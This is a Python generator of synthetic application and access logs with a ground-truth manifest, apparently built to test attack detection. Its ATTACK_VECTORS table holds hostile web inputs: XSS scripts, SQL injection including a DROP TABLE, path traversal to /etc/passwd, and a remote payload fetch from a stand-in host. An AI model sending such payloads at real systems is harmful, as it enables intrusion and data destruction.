"""Synthetic log corpus generator with a ground-truth manifest.

Produces an application log (bracket-timestamped lines, some spanning several
lines like real SQL traces), an access log (vhost + combined format), a
domain->IP lookup table, and a manifest that records every seeded item:
attacks by line number and rule, slow queries, rare services, pauses over two
seconds and incomplete sessions. Same seed, same profile: byte-identical
output.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass, field
from datetime import datetime, timezone
from pathlib import Path

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun",
          "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

ATTACK_RULES = ("xss", "session_fixation", "csrf", "sqli", "file_exec")

# Vector pools per rule. Tuples: (uri, referer or None for "-").
ATTACK_VECTORS = {
    "xss": [
        ("/q?x=<script>alert('XSS')</script>", None),
        ("/q?x=%3Cscript%3Ealert(1)%3C/script%3E", None),
        ("/comment?text=<h1>alert('XSS')</h1>", None),
        ("/page?inject=<iframe src=//bad.invalid>go</iframe>", None),
    ],
    "session_fixation": [
        ("/app;jsessionid=ABC123DEF456", None),
        ("/login.jsp?userId=admin&password=letmein", None),
        ("/portal;jsessionid=XYZ789TOKEN?view=main", None),
    ],
    "csrf": [
        ("/trx.do?amt=100&toAcct=1234", "http://evil-forum.site/thread/99"),
        ("/account/transfer?to=4242&amount=500", "https://free-prizes.example/win"),
    ],
    "sqli": [
        ("/item?id=') or '1'='1", None),
        ("/item?id=1' or 1<2", None),
        ("/item?id=105; DROP TABLE users--", None),
        ("/search?q=admin'--", None),
    ],
    "file_exec": [
        ("/download?f=shell.jsp", None),
        ("/download?f=../../etc/passwd", None),
        ("/load?template=config.xml", None),
        ("/fetch?file=https://bad.invalid/payload.bin", None),
    ],
}

LOOKUP_ENTRIES = {
    "www.example.com": "10.0.0.1",
    "example.com": "10.0.0.1",
    "evil-forum.site": "10.66.6.6",
    "free-prizes.example": "10.77.7.7",
}

BENIGN_URIS = [
    "/", "/index.html", "/products?id={n}", "/search?q={word}",
    "/api/v1/items", "/css/main.css", "/images/logo.png",
    "/account/settings", "/orders?page={n}&size=20", "/login.jsp",
    "/catalog/items/{n}", "/health",
]
BENIGN_WORDS = ["widgets", "gadgets", "reports", "invoices", "kettles"]
USER_AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/58.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/63.0",
    "curl/7.58.0",
]

SERVICES = [
    "FeedService.deliverMessage",
    "FeedService.getStagingBatch",
    "CubeService.buildCube",
    "RegistryService.checkIn",
    "RegistryService.findElements",
]
RARE_SERVICE = "ShadowService.debugProbe"
USERS = ["rossi", "bianchi", "verdi", "ferrari", "russo"]
CUBES = ["ELEMENT_MAP", "SUBJECT_CUBE", "REPORT_CUBE"]
ENTITIES = ["Segnalazione", "Soggetto", "Rapporto"]
SQL_COLUMNS = ["FISCAL_CODE", "REGISTRY_KEY", "PARTNER_ID"]


@dataclass
class GenProfile:
    seed: int = 42
    events: int = 1000            # events per log file
    attack_rate: float = 0.0      # fraction of access lines replaced by attacks
    error_rate: float = 0.02      # fraction of app events at ERROR level
    anomaly_rate: float = 0.003   # slow queries / rare service occurrences
    pause_count: int = 3          # seeded >2s gaps in the app log
    incomplete_sessions: int = 2
    start: str = "2018-01-17T09:00:00"
    span_minutes: int = 120
    target_host: str = "www.example.com"

    def start_us(self) -> int:
        dt = datetime.fromisoformat(self.start).replace(tzinfo=timezone.utc)
        return int(dt.timestamp()) * 1_000_000


@dataclass
class Corpus:
    out_dir: Path
    manifest: dict = field(default_factory=dict)

    @property
    def applog(self) -> Path:
        return self.out_dir / "applog.log"

    @property
    def accesslog(self) -> Path:
        return self.out_dir / "access.log"

    @property
    def lookup(self) -> Path:
        return self.out_dir / "lookup.csv"

    @property
    def manifest_path(self) -> Path:
        return self.out_dir / "manifest.json"


def _app_ts(us: int) -> str:
    dt = datetime.fromtimestamp(us // 1_000_000, tz=timezone.utc)
    return f"{dt.year:04d}-{dt.month:02d}-{dt.day:02d} " \
           f"{dt.hour:02d}:{dt.minute:02d}:{dt.second:02d},{us % 1_000_000:06d}"


def _clf_ts(us: int) -> str:
    dt = datetime.fromtimestamp(us // 1_000_000, tz=timezone.utc)
    return f"{dt.day:02d}/{MONTHS[dt.month - 1]}/{dt.year:04d}:" \
           f"{dt.hour:02d}:{dt.minute:02d}:{dt.second:02d} +0000"


def _generate_applog(profile: GenProfile, rng: random.Random) -> tuple[list[str], dict]:
    n = profile.events
    meta: dict = {"errors": 0, "pauses": [], "slow_queries": [], "rare_services": [],
                  "sessions": {"complete": 0, "incomplete": 0}, "events": n}
    if n == 0:
        return [], meta
    pause_positions = set()
    if n > 8 and profile.pause_count:
        pause_positions = set(rng.sample(range(2, n - 1), min(profile.pause_count, n - 3)))
    lines: list[str] = []
    ts = profile.start_us()
    proto = f"SOS2018{rng.randint(1000, 9999)}"
    open_sessions: list[tuple[str, str, str, int]] = []  # sid, user, service, close_at
    incomplete_budget = profile.incomplete_sessions
    for i in range(n):
        if i > 0:
            if i in pause_positions:
                gap = rng.randint(2_200_000, 4_800_000)
                meta["pauses"].append({"after_event": i - 1, "gap_us": gap})
            else:
                gap = rng.randint(1_000, 480_000)
            ts += gap
        stamp = _app_ts(ts)
        if rng.random() < 0.3:
            proto = f"SOS2018{rng.randint(1000, 9999)}"
        # close any session scheduled to end at this event
        closing = [s for s in open_sessions if s[3] <= i]
        if closing:
            sid, user, service, _ = closing[0]
            open_sessions.remove(closing[0])
            lines.append(f"[{stamp}]INFO (SessionManager ) PROT. {proto} service logout "
                         f"session={sid} username={user} service={service}")
            meta["sessions"]["complete"] += 1
            continue
        roll = rng.random()
        if roll < profile.error_rate:
            entity = rng.choice(ENTITIES)
            lines.append(f"[{stamp}]ERROR (Director ) PROT. {proto} failed build "
                         f"procedure for entity {entity}: ORA-{rng.randint(900, 7999)} "
                         f"error raised")
            meta["errors"] += 1
        elif roll < profile.error_rate + 0.06 and i < n - 12:
            sid = f"S{rng.randint(10000, 99999)}"
            user = rng.choice(USERS)
            service = rng.choice(SERVICES)
            if incomplete_budget > 0 and rng.random() < 0.34:
                incomplete_budget -= 1
                close_at = n + 1  # never closes
                meta["sessions"]["incomplete"] += 1
            else:
                close_at = i + rng.randint(3, 10)
            open_sessions.append((sid, user, service, close_at))
            lines.append(f"[{stamp}]INFO (SessionManager ) PROT. {proto} service login "
                         f"session={sid} username={user} service={service}")
        elif roll < profile.error_rate + 0.12:
            column = rng.choice(SQL_COLUMNS)
            lines.append(f"[{stamp}]INFO (Director ) PROT. {proto} execute query: "
                         f"SELECT {column} AS CODE, count({column}) AS QTY")
            lines.append("FROM STAGING.WORK_ELEMENTS")
            lines.append("WHERE PROTOCOL_ID = ? AND KIND = 'FF'")
            lines.append(f"GROUP BY {column}")
            lines.append(f"HAVING count({column}) > 1")
        elif roll < profile.error_rate + 0.16:
            entity = rng.choice(ENTITIES)
            lines.append(f"[{stamp}]INFO (DatabaseEntityBuilder) start build procedure "
                         f"for entity {entity}")
        else:
            if rng.random() < profile.anomaly_rate:
                ms = rng.randint(1600, 3000)
                meta["slow_queries"].append({"event": i, "ms": ms})
            else:
                ms = rng.randint(1, 800)
            service = rng.choice(SERVICES)
            if rng.random() < profile.anomaly_rate / 3:
                service = RARE_SERVICE
                meta["rare_services"].append({"event": i, "service": service})
            cube = rng.choice(CUBES)
            lines.append(f"[{stamp}]INFO (Director ) PROT. {proto} build procedure for "
                         f"cube {cube} service={service} is finished in {ms} ms")
    # Sessions that were scheduled to close but ran out of events stay open.
    for sid, user, service, close_at in open_sessions:
        if close_at <= n:
            meta["sessions"]["incomplete"] += 1
    meta["last_timestamp_us"] = ts
    return lines, meta


def _benign_access(profile: GenProfile, rng: random.Random, us: int) -> str:
    template = rng.choice(BENIGN_URIS)
    uri = template.format(n=rng.randint(1, 500), word=rng.choice(BENIGN_WORDS))
    referer = "-"
    if rng.random() < 0.3:
        referer = f"https://{profile.target_host}/index.html"
    ip = f"192.168.{rng.randint(0, 20)}.{rng.randint(1, 254)}"
    status = rng.choice([200] * 9 + [404, 302])
    size = rng.randint(120, 90000)
    agent = rng.choice(USER_AGENTS)
    return (f'{profile.target_host} {ip} - - [{_clf_ts(us)}] "GET {uri} HTTP/1.1" '
            f'{status} {size} "{referer}" "{agent}"')


def _attack_access(profile: GenProfile, rng: random.Random, us: int,
                   rule: str, vector_idx: int) -> tuple[str, str]:
    pool = ATTACK_VECTORS[rule]
    uri, referer = pool[vector_idx % len(pool)]
    ip = f"203.0.113.{rng.randint(1, 254)}"
    size = rng.randint(120, 4000)
    line = (f'{profile.target_host} {ip} - - [{_clf_ts(us)}] "GET {uri} HTTP/1.1" '
            f'200 {size} "{referer or "-"}" "{rng.choice(USER_AGENTS)}"')
    return line, uri


def _generate_accesslog(profile: GenProfile, rng: random.Random) -> tuple[list[str], list[dict]]:
    n = profile.events
    if n == 0:
        return [], []
    attack_total = round(n * profile.attack_rate)
    positions = sorted(rng.sample(range(n), min(attack_total, n)))
    per_rule_counter: dict[str, int] = {r: 0 for r in ATTACK_RULES}
    schedule = {}
    for order, pos in enumerate(positions):
        rule = ATTACK_RULES[order % len(ATTACK_RULES)]
        schedule[pos] = (rule, per_rule_counter[rule])
        per_rule_counter[rule] += 1
    span_us = profile.span_minutes * 60 * 1_000_000
    start = profile.start_us()
    lines, attacks = [], []
    for i in range(n):
        us = start + (span_us * i) // max(n, 1)
        if i in schedule:
            rule, idx = schedule[i]
            line, uri = _attack_access(profile, rng, us, rule, idx)
            attacks.append({"line": i + 1, "rule": rule, "uri": uri})
        else:
            line = _benign_access(profile, rng, us)
        lines.append(line)
    return lines, attacks


def generate_corpus(profile: GenProfile, out_dir: str | Path) -> Corpus:
    """Write applog.log, access.log, lookup.csv and manifest.json."""
    out = Corpus(out_dir=Path(out_dir))
    out.out_dir.mkdir(parents=True, exist_ok=True)
    rng = random.Random(profile.seed)
    app_lines, app_meta = _generate_applog(profile, rng)
    access_lines, attacks = _generate_accesslog(profile, rng)

    out.applog.write_text("\n".join(app_lines) + ("\n" if app_lines else ""),
                          encoding="utf-8")
    out.accesslog.write_text("\n".join(access_lines) + ("\n" if access_lines else ""),
                             encoding="utf-8")
    lookup = {**LOOKUP_ENTRIES, profile.target_host: "10.0.0.1"}
    out.lookup.write_text(
        "domain,ip\n" + "".join(f"{d},{ip}\n" for d, ip in sorted(lookup.items())),
        encoding="utf-8",
    )
    out.manifest = {
        "seed": profile.seed,
        "events": profile.events,
        "attack_rate": profile.attack_rate,
        "error_rate": profile.error_rate,
        "target_host": profile.target_host,
        "files": {"applog": out.applog.name, "accesslog": out.accesslog.name,
                  "lookup": out.lookup.name},
        "applog": app_meta,
        "attacks": attacks,
        "attack_counts": _count_by_rule(attacks),
    }
    out.manifest_path.write_text(json.dumps(out.manifest, indent=2), encoding="utf-8")
    return out


def _count_by_rule(attacks: list[dict]) -> dict[str, int]:
    counts: dict[str, int] = {}
    for entry in attacks:
        counts[entry["rule"]] = counts.get(entry["rule"], 0) + 1
    return counts
